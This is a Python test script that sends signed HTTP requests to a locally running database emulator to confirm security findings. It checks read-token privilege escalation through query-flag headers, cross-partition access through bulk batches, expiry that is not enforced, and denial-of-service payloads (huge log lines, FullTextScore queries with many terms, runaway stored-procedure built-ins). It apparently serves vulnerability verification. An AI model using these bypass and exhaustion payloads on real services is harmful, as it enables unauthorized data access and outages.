"""Sends the requests of the authorization, script and search findings to a running emulator
binary from outside, over HTTP, signing them itself.

    trust_findings.py http://127.0.0.1:PORT
Prints one line per finding: the finding, what was answered, and whether it holds (VULNERABLE/OK).
"""
import json, os, sys, time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from client import configure, req  # noqa: E402

configure(sys.argv[1])

def setup(db):
    req("DELETE", f"/dbs/{db}", rtype="dbs", link=f"dbs/{db}")
    s, b, _ = req("POST", "/dbs", {"id": db}, rtype="dbs", link="")
    assert s == 201, (s, b)
    s, b, _ = req("POST", f"/dbs/{db}/colls", {"id": "c", "partitionKey": {"paths": ["/pk"], "kind": "Hash", "version": 2}},
                  rtype="colls", link=f"dbs/{db}")
    assert s == 201, (s, b)
    for pk in ("alice", "bob"):
        for i in range(2):
            s, b, _ = req("POST", f"/dbs/{db}/colls/c/docs", {"id": f"{pk}{i}", "pk": pk},
                          headers={"x-ms-documentdb-partitionkey": json.dumps([pk])}, rtype="docs", link=f"dbs/{db}/colls/c")
            assert s == 201, (s, b)
    s, b, _ = req("POST", f"/dbs/{db}/colls/c/sprocs", {"id": "sp", "body": "function(){getContext().getResponse().setBody('ran')}"},
                  rtype="sprocs", link=f"dbs/{db}/colls/c")
    assert s == 201, (s, b)
    s, b, _ = req("POST", f"/dbs/{db}/users", {"id": "u"}, rtype="users", link=f"dbs/{db}")
    assert s == 201, (s, b)

def permission(db, pid, mode, resource, pk=None, headers=None):
    req("POST", f"/dbs/{db}/users", {"id": "u" + pid}, rtype="users", link=f"dbs/{db}")
    body = {"id": pid, "permissionMode": mode, "resource": resource}
    if pk is not None:
        body["resourcePartitionKey"] = pk
    s, b, _ = req("POST", f"/dbs/{db}/users/u{pid}/permissions", body, headers=headers, rtype="permissions", link=f"dbs/{db}/users/u{pid}")
    return s, (json.loads(b).get("_token") if s == 201 else b)

def report(name, vulnerable, detail):
    print(f"{'VULNERABLE' if vulnerable else 'OK        '}  {name}: {detail}")

db = "atk32"
setup(db)
# 1. Read token + query flags
s, read = permission(db, "read", "Read", f"dbs/{db}/colls/c")
flags = {"x-ms-documentdb-isquery": "True", "x-ms-cosmos-is-query-plan-request": "True"}
qct = {"Content-Type": "application/query+json", "x-ms-documentdb-isquery": "True"}
s, b, _ = req("POST", f"/dbs/{db}/colls/c/sprocs/sp", "[]", headers={**qct, "x-ms-documentdb-partitionkey": '["alice"]'}, token=read)
report("1a Read token executes a sproc with query flags", s == 200, s)
s, b, _ = req("POST", f"/dbs/{db}/colls/c/sprocs", {"id": "sp2", "body": "function(){}"}, headers={"x-ms-cosmos-is-query-plan-request": "True"}, token=read)
report("1b Read token creates a sproc with query flags", s == 201, s)
s, b, _ = req("POST", f"/dbs/{db}/colls/c/operations/partitionkeydelete", "", headers={**flags, "x-ms-documentdb-partitionkey": '["bob"]'}, token=read)
report("1c Read token deletes a partition key with query flags", s in (200, 202), s)
# 2. key-scoped All token + bulk
s, alice = permission(db, "alice", "All", f"dbs/{db}/colls/c", pk=["alice"])
print("alice permission:", s)
ops = [{"operationType": "Read", "id": "alice0", "partitionKey": '["bob"]'},
       {"operationType": "Create", "resourceBody": {"id": "evil", "pk": "bob"}, "partitionKey": '["bob"]'}]
s, b, _ = req("POST", f"/dbs/{db}/colls/c/docs", ops, headers={"x-ms-cosmos-is-batch-request": "True", "x-ms-cosmos-batch-atomic": "False",
              "x-ms-documentdb-partitionkey": '["alice"]', "Content-Type": "application/json"}, token=alice)
inner = []
try:
    inner = [o.get("statusCode") for o in json.loads(b)]
except Exception:
    pass
report("2 key-scoped token reaches another key through bulk", s in (200, 207) and any(x in (200, 201) for x in inner), f"{s} {inner}")
# 3. permission on a database link
s, dbtok = permission(db, "dbperm", "All", f"dbs/{db}")
if s == 201:
    s2, b, _ = req("POST", f"/dbs/{db}/users", {"id": "mallory"}, token=dbtok)
    s3, b3, _ = req("GET", f"/dbs/{db}/users/u/permissions", token=dbtok)
    report("3 database-link token administers users/permissions", s2 == 201 or s3 == 200, f"create user {s2}, list permissions {s3}")
else:
    report("3 database-link permission", False, f"refused at creation: {s}")
# 4. _self-link item permission
s, b, _ = req("GET", f"/dbs/{db}/colls/c/docs/alice1", headers={"x-ms-documentdb-partitionkey": '["alice"]'}, rtype="docs", link=f"dbs/{db}/colls/c/docs/alice1")
self_link = json.loads(b)["_self"]
s, item = permission(db, "item", "All", self_link)
s1, _, _ = req("GET", f"/dbs/{db}/colls/c/docs/alice1", headers={"x-ms-documentdb-partitionkey": '["alice"]'}, token=item)
s2, _, _ = req("DELETE", f"/dbs/{db}/colls/c/docs/alice1", headers={"x-ms-documentdb-partitionkey": '["alice"]'}, token=item)
report("4 _self-link item permission cannot read/delete by id", not (s1 == 200 and s2 == 204), f"read {s1}, delete {s2}")
# 9. console.log 8 MiB
req("POST", f"/dbs/{db}/colls/c/sprocs", {"id": "log", "body": "function(){console.log('x'.repeat(8*1024*1024)); getContext().getResponse().setBody(1)}"},
    rtype="sprocs", link=f"dbs/{db}/colls/c")
s, b, h = req("POST", f"/dbs/{db}/colls/c/sprocs/log", "[]", headers={"x-ms-documentdb-partitionkey": '["alice"]', "x-ms-documentdb-script-enable-logging": "true"},
              rtype="sprocs", link=f"dbs/{db}/colls/c/sprocs/log")
longest = max((len(k) + len(v) for k, v in h.items()), default=0)
report("9 console.log first line taken whole", longest > 20000 or "LineTooLong" in str(s), f"status {s}, longest header {longest} bytes")
# 10. FullTextScore with many terms
req("DELETE", f"/dbs/{db}ft", rtype="dbs", link=f"dbs/{db}ft")
req("POST", "/dbs", {"id": db + "ft"}, rtype="dbs", link="")
s, b, _ = req("POST", f"/dbs/{db}ft/colls", {"id": "c", "partitionKey": {"paths": ["/pk"], "kind": "Hash", "version": 2},
              "fullTextPolicy": {"defaultLanguage": "en-US", "fullTextPaths": [{"path": "/text", "language": "en-US"}]},
              "indexingPolicy": {"fullTextIndexes": [{"path": "/text"}]}}, rtype="colls", link=f"dbs/{db}ft")
for i in range(200):
    req("POST", f"/dbs/{db}ft/colls/c/docs", {"id": str(i), "pk": "p", "text": f"word{i} lorem ipsum dolor sit amet {i % 7} running fast"},
        headers={"x-ms-documentdb-partitionkey": '["p"]'}, rtype="docs", link=f"dbs/{db}ft/colls/c")
for n in (2000, 20000, 50000):
    terms = ", ".join(f"'t{i}'" for i in range(n))
    q = {"query": f"SELECT TOP 10 c.id FROM c ORDER BY RANK FullTextScore(c.text, {terms})", "parameters": []}
    t = time.time()
    s, b, _ = req("POST", f"/dbs/{db}ft/colls/c/docs", q, headers={"Content-Type": "application/query+json", "x-ms-documentdb-isquery": "True",
                  "x-ms-documentdb-partitionkey": '["p"]'}, rtype="docs", link=f"dbs/{db}ft/colls/c", timeout=120)
    report(f"10 FullTextScore with {n} terms", s == 500 or time.time() - t > 2, f"status {s} in {time.time()-t:.2f}s")
fts = ", ".join("FullTextScore(c.text, %s)" % ", ".join(f"'w{j}x{i}'" for i in range(100)) for j in range(16))
q = {"query": f"SELECT TOP 10 c.id FROM c ORDER BY RANK RRF({fts})", "parameters": []}
t = time.time(); pages = 0; cont = None; status = None; slowest = 0.0
while True:
    hh = {"Content-Type": "application/query+json", "x-ms-documentdb-isquery": "True", "x-ms-documentdb-partitionkey": '["p"]'}
    if cont:
        hh["x-ms-continuation"] = cont
    started = time.time()
    s, b, h = req("POST", f"/dbs/{db}ft/colls/c/docs", q, headers=hh, rtype="docs", link=f"dbs/{db}ft/colls/c", timeout=120)
    slowest = max(slowest, time.time() - started)
    pages += 1; status = s
    cont = {k.lower(): v for k, v in h.items()}.get("x-ms-continuation")
    if s != 200 or not cont or pages > 500:
        break
# A page is held to the page budget (2 s by default); one request doing all the work is the finding.
report("10 RRF of 16 x 100-term FullTextScore over 200 items", slowest > 2.5 or status != 200,
       f"status {status}, {pages} pages, slowest page {slowest:.2f}s, {time.time()-t:.2f}s in all ({len(q['query'])} bytes)")
# 5. expiry (last: it waits)
s, short = permission(db, "short", "Read", f"dbs/{db}/colls/c", headers={"x-ms-documentdb-expiry-seconds": "10"})
s0, _, _ = req("GET", f"/dbs/{db}/colls/c/docs/alice0", headers={"x-ms-documentdb-partitionkey": '["alice"]'}, token=short)
time.sleep(12)
s1, _, _ = req("GET", f"/dbs/{db}/colls/c/docs/alice0", headers={"x-ms-documentdb-partitionkey": '["alice"]'}, token=short)
report("5 token with 10 s expiry still reads after 12 s", s1 == 200, f"before {s0}, after {s1}")
s, b = permission(db, "toolong", "Read", f"dbs/{db}/colls/c", headers={"x-ms-documentdb-expiry-seconds": "18001"})
report("5b expiry over 18000 s accepted", s == 201, s)

# 8. runaway built-ins (last: a vulnerable emulator keeps the threads)
for name, code in (("copywithin", "Array.prototype.copyWithin.call({length: 1e15}, 0, 1)"), ("join", "new Array(2**32 - 1).join('')")):
    req("POST", f"/dbs/{db}/colls/c/sprocs", {"id": name, "body": "function(){ %s; getContext().getResponse().setBody(1)}" % code},
        rtype="sprocs", link=f"dbs/{db}/colls/c")
    t = time.time()
    s, b, _ = req("POST", f"/dbs/{db}/colls/c/sprocs/{name}", "[]", headers={"x-ms-documentdb-partitionkey": '["alice"]'},
                  rtype="sprocs", link=f"dbs/{db}/colls/c/sprocs/{name}", timeout=30)
    report(f"8 sproc {name} answered", not isinstance(s, int), f"status {s} in {time.time()-t:.1f}s")
